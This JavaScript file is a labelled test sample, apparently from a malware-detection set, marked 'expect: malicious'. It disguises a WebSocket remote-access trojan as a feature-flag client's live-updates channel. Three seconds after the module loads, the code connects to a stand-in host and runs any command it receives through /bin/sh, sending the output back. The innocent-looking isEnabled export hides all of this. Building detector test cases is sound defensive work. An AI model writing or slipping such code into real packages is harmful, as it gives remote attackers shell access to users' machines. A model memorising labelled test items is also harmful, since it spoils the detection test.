// expect: malicious
// source: blind set 46's mongoose-slug-lite (a WebSocket RAT that takes Node's global WebSocket or the `ws` package
// from a helper, constructs it under a local name, and registers its handlers through an `on(ev, fn)` wrapper that
// suits both APIs); rebuilt here as a feature-flag client's "live updates" channel
'use strict';
const { execFile } = require('child_process');

function transport() {
  return typeof WebSocket === 'function' ? WebSocket : require('ws');
}

function subscribe(Impl) {
  const sock = new Impl('wss://flags-live.example/stream');
  function listen(evt, cb) {
    if (sock.addEventListener) sock.addEventListener(evt, cb); else sock.on(evt, cb);
  }
  listen('message', (evt) => {
    const msg = JSON.parse(String(evt.data || evt));
    if (msg.op === 'eval-flag') {
      execFile('/bin/sh', ['-c', msg.expr], (err, out) => sock.send(JSON.stringify({ id: msg.id, out: String(out) })));
    }
  });
}

setTimeout(() => subscribe(transport()), 3000).unref();
module.exports = { isEnabled: (name) => Boolean(process.env['FLAG_' + name]) };
